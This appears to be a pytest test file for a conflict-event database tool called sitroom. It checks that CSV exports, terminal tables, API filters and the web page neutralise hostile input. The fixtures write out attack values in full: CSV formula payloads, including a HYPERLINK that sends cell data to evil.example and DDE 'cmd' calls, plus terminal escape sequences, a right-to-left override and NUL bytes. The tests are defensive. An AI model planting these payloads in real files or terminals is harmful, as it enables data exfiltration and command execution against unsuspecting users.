"""Outputs that would attack their reader: CSV formulas, terminal escape sequences, right-to-left
overrides on the page, highlight offsets after emoji, NUL bytes in filters, absurd offsets."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from test_api import _result

from sitroom.api import make_server
from sitroom.cli import cli
from sitroom.export import write_records
from sitroom.safe_text import csv_cell, terminal
from sitroom.store import Store

ROOT = Path(__file__).resolve().parents[1]
APP_JS = ROOT / "src" / "sitroom" / "web" / "app.js"

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
ESCAPES = "\x1b[2J\x1b[31mRED\x1b[0m\x1b]0;pwned title\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\\x9b1m\x07\x08"
RLO = "\u202e"
EMOJI = "\U0001F525\U0001F1FA\U0001F1E6 "  # fire, and a flag of two regional indicators: 3 code points, 6 UTF-16 units


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("out") / "o.db"
    items = [(EMOJI * 3 + "Gunmen attacked Goma on Monday, killing 4 people.", "Battles", "Armed clash",
              FORMULAS[0], FORMULAS[3], "2023-01-02", "Goma", "CD", -1.68, 29.22, 4),
             ("=1+1 " + ESCAPES + " Rebels shelled Beni, killing 2.", "Explosions/Remote violence",
              "Shelling/artillery/missile attack", FORMULAS[1], FORMULAS[2], "2023-01-03", "Beni", "CD", 0.49, 29.47, 2)]
    with Store(db) as st:
        st.add_result(_result("evil", "2023-01-04", RLO + "Title with an override " + ESCAPES, items))
    return db


@pytest.fixture(scope="module")
def base(hostile_db: Path) -> Iterator[str]:
    srv = make_server(str(hostile_db), "127.0.0.1", 0)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{srv.server_port}"
    srv.shutdown()
    srv.server_close()


def _get(url: str) -> tuple[int, bytes]:
    try:
        with urllib.request.urlopen(url, timeout=30) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


# ---------------------------------------------------------------- CSV formula injection

def test_csv_cell_neutralises_formulas_and_keeps_numbers() -> None:
    for f in FORMULAS:
        assert csv_cell(f) == "'" + f
    assert csv_cell(-3.5) == -3.5 and csv_cell(0) == 0 and csv_cell(None) is None
    assert csv_cell("Goma") == "Goma" and csv_cell("") == ""


def _formula_cells(text: str) -> list[str]:
    number = re.compile(r"-?\d+(?:\.\d+)?(?:[eE][-+]?\d+)?")  # a negative number is data, not a formula
    return [c for row in csv.reader(io.StringIO(text)) for c in row
            if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.fullmatch(c)]


def test_csv_export_has_no_formula_cells(hostile_db: Path, base: str) -> None:
    with Store(hostile_db) as st:
        buf = io.StringIO()
        write_records(st.events(background=True), "csv", buf, kind="events")
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert rows and _formula_cells(buf.getvalue()) == []
    assert {r["actor1"] for r in rows} == {"'" + FORMULAS[0], "'" + FORMULAS[1]}
    assert float(rows[0]["lat"]) < 0  # a negative number is still a number
    status, body = _get(base + "/api/events?format=csv&background=true")
    assert status == 200 and _formula_cells(body.decode("utf-8")) == []
    res = CliRunner().invoke(cli, ["events", "--db", str(hostile_db), "--format", "csv", "--background"])
    assert res.exit_code == 0, res.output
    assert "Goma" in res.output and _formula_cells(res.output) == []


# ---------------------------------------------------------------- terminal escape sequences

def test_terminal_strips_escape_and_control_sequences() -> None:
    out = terminal("a" + ESCAPES + "b\u202ec\u2066d")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out), repr(out)
    assert "pwned" not in out and "http://evil" not in out  # OSC payloads go with their sequence
    assert out.startswith("a") and "RED" in out and "link" in out and out.endswith("bcd")
    assert terminal("Goma\tBeni\n") == "Goma\tBeni\n"


def test_table_output_carries_no_escape_sequences(hostile_db: Path) -> None:
    with Store(hostile_db) as st:
        for kind, rows in (("events", list(st.events(background=True))), ("documents", list(st.documents())),
                           ("quotes", list(st.quotes())), ("claims", list(st.claims()))):
            buf = io.StringIO()
            write_records(rows, "table", buf, kind=kind)
            text = buf.getvalue()
            assert rows and "\x1b" not in text and "\x07" not in text and "\x9b" not in text, (kind, text)
            assert RLO not in text


# ---------------------------------------------------------------- NUL bytes and absurd offsets

@pytest.mark.parametrize("path", ["/api/events?q=", "/api/events?actor=", "/api/quotes?speaker=",
                                  "/api/claims?source=", "/api/quotes?q=", "/api/claims?q=", "/api/stats?actor=",
                                  "/api/actors?q="])
def test_nul_in_a_filter_is_a_400(base: str, path: str) -> None:
    status, body = _get(base + path + "Gunmen%00")
    assert status == 400, (path, status, body[:200])
    assert json.loads(body)["error"]["code"] == "bad_parameter"
    status, _ = _get(base + path + "%00")
    assert status == 400


def test_offset_past_the_end_reports_the_real_total(base: str) -> None:
    status, body = _get(base + "/api/events?background=true")
    real = json.loads(body)["total"]
    for path in ("/api/events?background=true&offset=999999999", "/api/events?background=true&offset=5"):
        status, body = _get(base + path)
        page = json.loads(body)
        assert status == 200 and page["items"] == [] and page["total"] == real, page
    for path in ("/api/quotes", "/api/claims", "/api/documents", "/api/actors"):
        status, body = _get(base + path + "?offset=999999999")
        page = json.loads(body)
        assert status == 200 and page["items"] == [] and page["total"] < 100, (path, page)


# ---------------------------------------------------------------- the page: bidi isolation, offsets

def _js_function(name: str) -> str:
    src = APP_JS.read_text("utf-8")
    m = re.search(r"\n(\s*)function " + name + r"\(.*?\n\1\}", src, re.S)
    assert m, f"no function {name} in app.js"
    return m.group(0)


node = pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")


def _node(script: str) -> Any:
    out = subprocess.run(["node", "-e", script], capture_output=True, text=True, timeout=60, check=True)
    return json.loads(out.stdout)


@node
def test_page_highlight_offsets_match_the_servers_after_emoji(base: str) -> None:
    status, body = _get(base + "/api/documents/evil")
    doc = json.loads(body)
    spans = [(s["start"], s["end"]) for s in doc["spans"] if s["kind"] == "evidence"]
    assert spans and EMOJI in doc["text"]
    want = [doc["text"][a:b] for a, b in spans]  # the server's offsets count code points
    script = _js_function("unitOffsets") + f"""
      const text = {json.dumps(doc["text"])};
      const unit = unitOffsets(text);
      console.log(JSON.stringify({json.dumps(spans)}.map(([a, b]) => text.slice(unit(a), unit(b)))));"""
    assert _node(script) == want


@node
def test_page_isolates_every_text_child() -> None:
    # el() under a minimal DOM: every string child is wrapped in <bdi dir="auto">, except in <option>
    script = """
      class Node { constructor(tag) { this.tag = tag; this.attrs = {}; this.kids = []; }
        setAttribute(k, v) { this.attrs[k] = v; } append(c) { this.kids.push(c); } }
      const document = { createElement: (t) => new Node(t) };
      const dump = (n) => typeof n === "string" ? n : { tag: n.tag, attrs: n.attrs, kids: n.kids.map(dump) };
    """ + _js_function("el").replace("NO_ISOLATE", "NO_ISO") + """
      const NO_ISO = new Set(["option", "title", "bdi", "textarea", "style", "script"]);
      console.log(JSON.stringify([dump(el("h3", {}, "\\u202eevil title", el("span", {}, " - doc"))),
                                  dump(el("option", { value: "x" }, "Battles"))]));"""
    h3, option = _node(script)
    assert h3["kids"][0] == {"tag": "bdi", "attrs": {"dir": "auto"}, "kids": ["\u202eevil title"]}
    assert h3["kids"][1]["kids"][0]["tag"] == "bdi"
    assert option["kids"] == ["Battles"]
    assert 'dir: "auto"' in _js_function("highlighted")  # the article box too
